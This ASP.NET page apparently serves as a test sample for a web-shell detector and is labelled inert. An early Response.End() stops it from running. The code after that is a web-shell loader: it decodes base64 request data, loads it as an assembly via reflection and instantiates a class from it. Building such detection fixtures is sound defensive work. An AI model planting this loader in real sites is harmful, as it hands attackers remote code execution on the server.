<%@ Page Language="C#"%>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<%try { string key = "3c6e0b8a9c15224a"; string pass = "pass"; string md5 = System.BitConverter.ToString(new System.Security.Cryptography.MD5CryptoServiceProvider().ComputeHash(System.Text.Encoding.Default.GetBytes(pass + key))).Replace("-", "");
byte[] data = System.Convert.FromBase64String(Context.Request[pass]);
if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }
else { object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); }
} catch (System.Exception) { } %>
